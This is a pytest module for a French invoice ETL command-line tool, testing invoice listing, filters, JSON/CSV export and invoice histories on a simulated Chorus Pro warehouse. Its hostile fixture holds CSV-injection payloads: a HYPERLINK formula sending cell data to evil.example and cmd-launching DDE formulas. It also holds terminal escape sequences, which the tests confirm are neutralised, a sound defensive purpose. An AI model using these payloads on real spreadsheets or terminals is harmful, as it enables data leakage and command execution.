"""`chorus-etl invoices` and `chorus-etl invoice NUMBER` over a warehouse the real flows built.

One warehouse per module (read-only tests share it): an export with bad invoices ingested, the good
ones deposited on the simulator, its clock moved 45 days and the nightly reconciliation run, so
there are invalid invoices with reasons, deposit attempts, status events, alerts and late payments.
The tests that change a warehouse build their own.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import Session, col, select
from typer.testing import CliRunner

from chorus_etl import db
from chorus_etl.config import reset_settings_cache
from chorus_etl.untrusted import CONTROL_CHARACTERS, FORMULA_TRIGGERS
from chorus_pro.simulator import SimulatorHandle
from cli import app
from cli.invoices import LIST_COLUMNS, NUMERIC_COLUMNS, OVERDUE_COLUMNS
from flows.deposit import deposit
from flows.ingest import ingest
from flows.reconcile import reconcile
from schemas.warehouse import (
    Alert,
    DepositAttempt,
    Invoice,
    InvoiceState,
    StatusEvent,
    ValidationIssue,
)
from tasks.reconcile.overdue import find_overdue
from tasks.sample.export import generate_export
from tests.flows.helpers import configure, edit_export

ANTIGONE, ARTENREEL = "51858054300107", "47840796800054"


@dataclass(frozen=True)
class Lived:
    url: str
    as_of: date


def _sim_today(simulator: SimulatorHandle) -> date:
    return date.fromisoformat(simulator.control.clock()["today"])


def _live(folder: Path, url: str, simulator: SimulatorHandle, *, with_errors: bool) -> date:
    """Ingest, deposit, 45 days later the nightly reconciliation: what production goes through."""
    today = _sim_today(simulator)
    generate_export(folder, invoices=24, seed_value=17, with_errors=with_errors, today=today)
    ingest(folder, today=today)
    deposit()
    simulator.control.advance(days=45)
    as_of = _sim_today(simulator)
    reconcile(as_of=as_of)
    return as_of


@pytest.fixture(scope="module")
def lived(
    prefect_harness: None,
    simulator_server: SimulatorHandle,
    tmp_path_factory: pytest.TempPathFactory,
) -> Lived:
    root = tmp_path_factory.mktemp("cli-invoices")
    url = f"sqlite:///{root / 'warehouse.db'}"
    simulator_server.control.reset()
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)
        configure(patch, url, simulator_server)
        as_of = _live(root / "export", url, simulator_server, with_errors=True)
    simulator_server.control.reset()
    reset_settings_cache()
    return Lived(url, as_of)


#: Text a spreadsheet would run as a formula, and text a terminal would obey, as hostile exports
#: and Chorus Pro comments can carry them.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_COMMAND = "-2+3+cmd|' /C calc'!A0"
ESCAPES = "\x1b[2J\x1b]8;;http://evil.example\x1b\\cliquez ici\x1b]8;;\x1b\\\x07\x9b31m"
CREDIT_NOTE = "AV-NEG-1"


@dataclass(frozen=True)
class Hostile:
    """A warehouse whose data was written by someone hostile: `numbers` name the invoices by
    what they carry; `others` are the invoices that carry nothing."""

    url: str
    numbers: dict[str, str]
    others: frozenset[str]


@pytest.fixture(scope="module")
def hostile(
    prefect_harness: None,
    simulator_server: SimulatorHandle,
    tmp_path_factory: pytest.TempPathFactory,
) -> Hostile:
    """Buyer names that are formulas in the export, Chorus Pro comments that are formulas or
    escape sequences, a buyer name with escape sequences stored before the ingest refused control
    characters, and a credit note of negative amounts deposited by hand on the portal."""
    root = tmp_path_factory.mktemp("cli-hostile")
    url = f"sqlite:///{root / 'warehouse.db'}"
    simulator = simulator_server
    simulator.control.reset()
    today = _sim_today(simulator)
    manifest = generate_export(root / "export", invoices=6, seed_value=5, today=today)
    listed = [str(i["invoice_number"]) for i in manifest["invoices"]]  # type: ignore[attr-defined]
    names = ("formula_buyer", "at_buyer", "formula_comment", "escape_comment", "escape_buyer")
    numbers = dict(zip(names, listed, strict=False))
    edit_export(root / "export", numbers["formula_buyer"], client=HYPERLINK)
    edit_export(root / "export", numbers["at_buyer"], client=AT_SUM)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)
        configure(patch, url, simulator)
        ingest(root / "export", today=today)
        deposit()
        by_number = {i.invoice_number: i for i in _rows(url)}
        for name, comment in (("formula_comment", MINUS_COMMAND), ("escape_comment", ESCAPES)):
            chorus_id = by_number[numbers[name]].chorus_invoice_id
            assert chorus_id is not None
            simulator.control.set_status(chorus_id, "SUSPENDUE", comment)
        simulator.control.manual_invoice(
            supplier_siret=ANTIGONE,
            numeroFacture=CREDIT_NOTE,
            codeDestinataire="21670447800017",
            codeServiceExecutant="28E",
            montantHtTotal=-10.0,
            montantTVA=-2.5,
        )
        reconcile(as_of=today)
    engine = db.make_engine(url)
    try:
        with Session(engine) as session:
            stored = session.exec(
                select(Invoice).where(col(Invoice.invoice_number) == numbers["escape_buyer"])
            ).one()
            stored.buyer_name = f"Mairie {ESCAPES} de Colmar"
            session.add(stored)
            session.commit()
    finally:
        engine.dispose()
    simulator.control.reset()
    reset_settings_cache()
    numbers["credit_note"] = CREDIT_NOTE
    return Hostile(url, numbers, frozenset(listed) - set(numbers.values()))


@pytest.fixture
def runner(lived: Lived, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    """The commands pointed at the module's warehouse, on a wide terminal, logs on stderr."""
    _point_at(monkeypatch, lived.url)
    return CliRunner()


def _point_at(monkeypatch: pytest.MonkeyPatch, url: str) -> None:
    monkeypatch.setenv("CHORUS_ETL_DATABASE_URL", url)
    monkeypatch.setenv("CHORUS_ETL_LOG_STREAM", "stderr")
    monkeypatch.setenv("CHORUS_ETL_LOG_LEVEL", "WARNING")
    monkeypatch.setenv("COLUMNS", "250")
    reset_settings_cache()


def _run(runner: CliRunner, *args: str, code: int = 0) -> Any:
    result = runner.invoke(app, list(args))
    assert result.exit_code == code, (result.stdout, result.stderr)
    return result


def _listed(runner: CliRunner, *args: str) -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = json.loads(_run(runner, "invoices", "--json", *args).stdout)
    return records


def _rows(url: str) -> list[Invoice]:
    engine = db.make_engine(url)
    try:
        with Session(engine) as session:
            return list(session.exec(select(Invoice)).all())
    finally:
        engine.dispose()


def _keys(records: list[dict[str, Any]]) -> set[tuple[str, str]]:
    return {(r["supplier_siret"], r["invoice_number"]) for r in records}


def _everything(runner: CliRunner) -> list[dict[str, Any]]:
    return _listed(runner, "--limit", "100000")


def test_the_terminal_list_is_newest_first_with_a_footer(lived: Lived, runner: CliRunner) -> None:
    everything = _everything(runner)
    invoices = _rows(lived.url)
    assert len(everything) == len(invoices) > 20
    dates = [r["invoice_date"] or "" for r in everything]
    assert dates == sorted(dates, reverse=True), "newest first"

    table = _run(runner, "invoices").stdout
    for heading in ("supplier", "number", "entrepreneur", "buyer", "TTC", "state", "last event"):
        assert heading in table
    assert f"{len(invoices)} invoices matched, all shown." in table
    newest = everything[0]
    assert newest["invoice_number"] in table
    assert newest["total_ttc_eur"].replace(".", ",")[-3:] in table

    limited = _run(runner, "invoices", "--limit", "3").stdout
    assert f"{len(invoices)} invoices matched, 3 shown (newest first; --limit 3)." in limited
    shown = [r["invoice_number"] for r in everything[:3]]
    assert all(number in limited for number in shown)
    assert everything[3]["invoice_number"] not in limited
    assert _listed(runner, "--limit", "3") == everything[:3]


def test_each_filter_narrows_the_list_and_can_match_nothing(
    lived: Lived, runner: CliRunner
) -> None:
    everything = _everything(runner)
    keys = _keys(everything)

    def narrows(args: tuple[str, ...], expected: set[tuple[str, str]]) -> None:
        got = _keys(_listed(runner, *args, "--limit", "100000"))
        assert got == expected, args
        assert expected and expected < keys, f"{args} should narrow the list, not empty it"

    narrows(("--structure", ANTIGONE), {k for k in keys if k[0] == ANTIGONE})
    narrows(("--supplier", ARTENREEL), {k for k in keys if k[0] == ARTENREEL})
    code = next(r["entrepreneur_code"] for r in everything if r["entrepreneur_code"])
    narrows(
        ("--entrepreneur", code.lower()),
        {_keys([r]).pop() for r in everything if r["entrepreneur_code"] == code},
    )
    status = next(r["chorus_status"] for r in everything if r["chorus_status"])
    narrows(
        ("--status", status.lower()),
        {_keys([r]).pop() for r in everything if r["chorus_status"] == status},
    )
    for state in ("invalid", "deposited"):
        narrows(("--state", state), {_keys([r]).pop() for r in everything if r["state"] == state})
    narrows(
        ("--state", "DEPOSITED", "--structure", ANTIGONE),
        {
            _keys([r]).pop()
            for r in everything
            if r["state"] == "deposited" and r["supplier_siret"] == ANTIGONE
        },
    )
    number = everything[0]["invoice_number"]
    exact = {k for k in keys if k[1].lower() == number.lower()}
    narrows(("--number", number.lower()), exact)
    prefix = number[: len(number) - 2]
    narrows(("--number", prefix), {k for k in keys if k[1].lower().startswith(prefix.lower())})

    engine = db.make_engine(lived.url)
    try:
        late = {o.invoice_id for o in find_overdue(engine, lived.as_of, {}, 2.15)}
    finally:
        engine.dispose()
    by_id = {i.id: (i.supplier_siret, i.invoice_number) for i in _rows(lived.url)}
    overdue = _listed(runner, "--overdue", "--as-of", lived.as_of.isoformat())
    narrows(("--overdue", "--as-of", lived.as_of.isoformat()), {by_id[i] for i in late})
    assert all(r["days_late"] > 0 and r["due_date"] < lived.as_of.isoformat() for r in overdue)
    assert _listed(runner, "--overdue", "--as-of", "2020-01-01") == []

    for nothing in (
        ("--structure", "00000000000000"),
        ("--entrepreneur", "NOBODY"),
        ("--status", "NO_SUCH_STATUS"),
        ("--state", "external"),
        ("--number", "NOPE-"),
        ("--state", "invalid", "--status", status),
    ):
        assert _listed(runner, *nothing) == [], nothing
    assert "No invoice matched." in _run(runner, "invoices", "--number", "NOPE-").stdout

    refused = _run(runner, "invoices", "--state", "paid", code=2)
    assert "'paid' is not a state" in refused.stderr
    assert all(state.value in refused.stderr for state in InvoiceState)
    _run(runner, "invoices", "--json", "--csv", code=2)


def test_json_and_csv_have_the_columns_and_the_amounts_to_the_cent(
    lived: Lived, runner: CliRunner
) -> None:
    records = _everything(runner)
    assert all(list(r) == list(LIST_COLUMNS) for r in records)
    cents = {(i.supplier_siret, i.invoice_number): i.total_ttc_cents for i in _rows(lived.url)}
    for record in records:
        key = (record["supplier_siret"], record["invoice_number"])
        assert record["total_ttc_cents"] == cents[key]
        assert Decimal(record["total_ttc_eur"]) * 100 == cents[key]
    assert any(r["last_event_kind"] == "status" for r in records)
    assert any(r["last_event_kind"] == "ingest" and r["last_event"] == "error" for r in records)

    text = _run(runner, "invoices", "--csv", "--limit", "100000").stdout
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert tuple(csv.reader(io.StringIO(text), delimiter=";").__next__()) == LIST_COLUMNS
    assert len(rows) == len(records)
    for row, record in zip(rows, records, strict=True):
        assert row == {k: "" if v is None else str(v) for k, v in record.items()}
        assert int(row["total_ttc_cents"]) == cents[(row["supplier_siret"], row["invoice_number"])]

    late = _run(runner, "invoices", "--csv", "--overdue", "--as-of", lived.as_of.isoformat())
    header = next(csv.reader(io.StringIO(late.stdout), delimiter=";"))
    assert tuple(header) == LIST_COLUMNS + OVERDUE_COLUMNS


def test_invoice_shows_why_an_invalid_invoice_was_refused(lived: Lived, runner: CliRunner) -> None:
    invalid = next(
        i for i in _rows(lived.url) if i.state == "invalid" and len(i.invoice_number) < 30
    )
    engine = db.make_engine(lived.url)
    with Session(engine) as session:
        issues = session.exec(
            select(ValidationIssue).where(col(ValidationIssue.invoice_id) == invalid.id)
        ).all()
    engine.dispose()
    assert issues

    shown = _run(
        runner, "invoice", invalid.invoice_number, "--structure", invalid.supplier_siret
    ).stdout
    assert "Ingest: reasons and warnings" in shown
    for issue in issues:
        assert issue.rule in shown
        for message in (issue.message_fr, issue.message_en):
            assert message.split()[0] in shown
    assert "Deposit attempts: none" in shown

    (life,) = json.loads(
        _run(
            runner,
            *("invoice", invalid.invoice_number.lower(), "--structure", invalid.supplier_siret),
            "--json",
        ).stdout
    )
    assert life["state"] == "invalid"
    assert sorted(
        (i["rule"], i["severity"], i["message_fr"], i["message_en"]) for i in life["issues"]
    ) == sorted((i.rule, i.severity, i.message_fr, i.message_en) for i in issues)
    assert life["deposit_attempts"] == [] and life["deposit_mode"] is None


def test_invoice_shows_the_attempts_statuses_and_alerts_of_a_deposited_one(
    lived: Lived, runner: CliRunner
) -> None:
    engine = db.make_engine(lived.url)
    with Session(engine) as session:
        alerted = session.exec(
            select(Invoice)
            .join(Alert, col(Alert.invoice_id) == col(Invoice.id))
            .where(col(Invoice.state) == "deposited")
            .order_by(col(Invoice.id))
        ).first()
        assert alerted is not None
        attempts = session.exec(
            select(DepositAttempt)
            .where(col(DepositAttempt.invoice_id) == alerted.id)
            .order_by(col(DepositAttempt.started_at), col(DepositAttempt.id))
        ).all()
        events = session.exec(
            select(StatusEvent)
            .where(col(StatusEvent.invoice_id) == alerted.id)
            .order_by(col(StatusEvent.status_at))
        ).all()
        alerts = session.exec(select(Alert).where(col(Alert.invoice_id) == alerted.id)).all()
    engine.dispose()
    assert attempts and events and alerts

    (life,) = json.loads(
        _run(
            runner,
            *("invoice", alerted.invoice_number, "--structure", alerted.supplier_siret, "--json"),
        ).stdout
    )
    assert life["chorus_invoice_id"] == alerted.chorus_invoice_id
    assert life["total_ttc_cents"] == alerted.total_ttc_cents
    assert (
        sum(v["base_cents"] + v["vat_cents"] for v in life["vat_lines"]) == alerted.total_ttc_cents
    )
    assert life["deposit_mode"] == "pdf"
    assert [a["outcome"] for a in life["deposit_attempts"]] == [a.outcome for a in attempts]
    assert "deposited" in {a["outcome"] for a in life["deposit_attempts"]}
    assert [(e["status"], e["source"]) for e in life["status_events"]] == [
        (e.status, e.source) for e in events
    ]
    times = [e["status_at"] for e in life["status_events"]]
    assert times == sorted(times)
    assert sorted(
        (a["kind"], a["audience"], a["recipient"], a["status"]) for a in life["alerts"]
    ) == sorted((a.kind, a.audience, a.recipient, a.status) for a in alerts)

    shown = _run(
        runner, "invoice", alerted.invoice_number, "--structure", alerted.supplier_siret
    ).stdout
    sections = ["Deposit attempts (", "Chorus Pro statuses (", "Alerts ("]
    positions = [shown.index(title) for title in sections]
    assert positions == sorted(positions), "sections in the order things happened"
    for event in events:
        assert event.status in shown
    for alert in alerts:
        assert alert.kind in shown and alert.recipient in shown
    assert "mode pdf" in shown

    listed = _listed(
        runner, "--number", alerted.invoice_number, "--structure", alerted.supplier_siret
    )
    assert listed[0]["last_event_kind"] == "status"
    latest = max(events, key=lambda e: e.status_at)
    assert listed[0]["last_event_at"] == latest.status_at.isoformat()
    assert listed[0]["last_event"] in {e.status for e in events if e.status_at == latest.status_at}


def test_a_number_two_structures_use_shows_both_and_an_unknown_one_exits_1(
    tmp_path: Path, sqlite_url: str, simulator: SimulatorHandle, monkeypatch: pytest.MonkeyPatch
) -> None:
    configure(monkeypatch, sqlite_url, simulator)
    today = _sim_today(simulator)
    generate_export(tmp_path / "export", invoices=4, seed_value=3, today=today)
    ingest(tmp_path / "export", today=today)
    deposit()
    ours = next(i for i in _rows(sqlite_url) if i.state == "deposited")
    other = ARTENREEL if ours.supplier_siret == ANTIGONE else ANTIGONE
    simulator.control.manual_invoice(
        supplier_siret=other,
        numeroFacture=ours.invoice_number,
        codeDestinataire="21670447800017",
        codeServiceExecutant="28E",
        montantHtTotal=100.0,
        montantTVA=20.0,
    )
    reconcile(as_of=today)
    _point_at(monkeypatch, sqlite_url)
    runner = CliRunner()

    both = json.loads(_run(runner, "invoice", ours.invoice_number, "--json").stdout)
    assert sorted(life["supplier_siret"] for life in both) == sorted([ours.supplier_siret, other])
    assert {life["state"] for life in both} == {"deposited", "external"}
    shown = _run(runner, "invoice", ours.invoice_number).stdout
    assert "is used by 2 structures" in shown and "pass --structure" in shown
    assert shown.count(f" {ours.invoice_number} of ") == 2
    one = json.loads(
        _run(runner, "invoice", ours.invoice_number, "--structure", other, "--json").stdout
    )
    assert [life["total_ttc_cents"] for life in one] == [12000]

    unknown = _run(runner, "invoice", "NOPE-404", code=1)
    assert unknown.stdout == ""
    assert unknown.stderr.strip().splitlines() == [
        "invoice: no invoice 'NOPE-404' in the warehouse "
        "(`chorus-etl invoices --number NOPE-404` lists numbers beginning so)"
    ]
    elsewhere = _run(
        runner, "invoice", ours.invoice_number, "--structure", "00000000000000", code=1
    )
    assert "for structure 00000000000000" in elsewhere.stderr


@pytest.mark.postgres
def test_both_commands_on_postgresql(
    tmp_path: Path, postgres_url: str, simulator: SimulatorHandle, monkeypatch: pytest.MonkeyPatch
) -> None:
    configure(monkeypatch, postgres_url, simulator)
    as_of = _live(tmp_path / "export", postgres_url, simulator, with_errors=True)
    _point_at(monkeypatch, postgres_url)
    runner = CliRunner()

    everything = _everything(runner)
    invoices = _rows(postgres_url)
    assert len(everything) == len(invoices)
    assert {r["last_event_kind"] for r in everything} >= {"status", "ingest"}
    cents = {(i.supplier_siret, i.invoice_number): i.total_ttc_cents for i in invoices}
    assert all(
        r["total_ttc_cents"] == cents[(r["supplier_siret"], r["invoice_number"])]
        for r in everything
    )
    invalid = _listed(runner, "--state", "invalid", "--limit", "100000")
    assert invalid and {r["state"] for r in invalid} == {"invalid"}
    number = everything[0]["invoice_number"]
    assert _keys(_listed(runner, "--number", number.lower())) >= {
        (everything[0]["supplier_siret"], number)
    }

    engine = db.make_engine(postgres_url)
    try:
        late = {o.invoice_id for o in find_overdue(engine, as_of, {}, 2.15)}
    finally:
        engine.dispose()
    by_id = {i.id: (i.supplier_siret, i.invoice_number) for i in invoices}
    assert _keys(
        _listed(runner, "--overdue", "--as-of", as_of.isoformat(), "--limit", "100000")
    ) == {by_id[i] for i in late}

    deposited = next(i for i in invoices if i.state == "deposited")
    (life,) = json.loads(
        _run(
            runner,
            *(
                "invoice",
                deposited.invoice_number,
                "--structure",
                deposited.supplier_siret,
                "--json",
            ),
        ).stdout
    )
    assert life["deposit_attempts"] and life["status_events"]
    csv_text = _run(runner, "invoices", "--csv").stdout
    assert next(csv.reader(io.StringIO(csv_text), delimiter=";")) == list(LIST_COLUMNS)


def test_csv_cells_never_become_formulas_and_negative_amounts_stay_numbers(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    """OWASP's CSV injection: a text cell starting with = + - @ tab or CR gets a leading quote,
    a numeric column's number is left alone; every invoice is still listed, the others as is."""
    _point_at(monkeypatch, hostile.url)
    runner = CliRunner()
    records = _listed(runner, "--limit", "100000")
    text = _run(runner, "invoices", "--csv", "--limit", "100000").stdout
    rows = {r["invoice_number"]: r for r in csv.DictReader(io.StringIO(text), delimiter=";")}

    assert set(rows) == {r["invoice_number"] for r in records} >= set(hostile.numbers.values())
    numbers = hostile.numbers
    assert rows[numbers["formula_buyer"]]["buyer_name"] == "'" + HYPERLINK
    assert rows[numbers["at_buyer"]]["buyer_name"] == "'" + AT_SUM
    assert rows[numbers["formula_comment"]]["last_event_detail"] == "'" + MINUS_COMMAND
    credit = rows[numbers["credit_note"]]
    assert (credit["total_ttc_eur"], credit["total_ttc_cents"]) == ("-12.50", "-1250")
    for row in rows.values():
        for name, cell in row.items():
            assert name in NUMERIC_COLUMNS or not cell.startswith(FORMULA_TRIGGERS), (name, cell)
    assert rows[numbers["escape_buyer"]]["buyer_name"] == "Mairie cliquez ici de Colmar"
    assert rows[numbers["escape_comment"]]["last_event_detail"] == "cliquez ici"
    assert CONTROL_CHARACTERS.search(text) is None
    for record in records:
        if record["invoice_number"] in hostile.others:
            expected = {k: "" if v is None else str(v) for k, v in record.items()}
            assert rows[record["invoice_number"]] == expected, "nothing else changes"
    states = {r["invoice_number"]: r["state"] for r in records}
    assert {states[n] for n in hostile.others} == {"deposited"}
    assert states[numbers["formula_buyer"]] == states[numbers["at_buyer"]] == "deposited"


def test_terminal_output_obeys_no_escape_sequence_and_json_stays_faithful(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A buyer's name or a Chorus Pro comment holding escape sequences (clear the screen, a hidden
    hyperlink, a bell) shows as its text on the terminal; `--json` keeps the data as it is."""
    _point_at(monkeypatch, hostile.url)
    runner = CliRunner()
    numbers = hostile.numbers

    listed = _run(runner, "invoices").stdout
    assert CONTROL_CHARACTERS.search(listed) is None
    assert "Mairie cliquez ici de Colmar" in listed
    assert all(number in listed for number in {*numbers.values(), *hostile.others})

    buyer = _run(runner, "invoice", numbers["escape_buyer"]).stdout
    comment = _run(runner, "invoice", numbers["escape_comment"]).stdout
    for shown in (buyer, comment):
        assert CONTROL_CHARACTERS.search(shown) is None, shown
    assert "Mairie cliquez ici de Colmar" in buyer
    assert "SUSPENDUE · since" in comment and "cliquez ici" in comment
    assert "Chorus Pro statuses (" in comment and "Alerts (" in comment

    (life,) = json.loads(_run(runner, "invoice", numbers["escape_comment"], "--json").stdout)
    assert life["chorus_status_comment"] == ESCAPES
    assert ESCAPES in {event["comment"] for event in life["status_events"]}
    records = {r["invoice_number"]: r for r in _listed(runner, "--limit", "100000")}
    assert records[numbers["escape_buyer"]]["buyer_name"] == f"Mairie {ESCAPES} de Colmar"
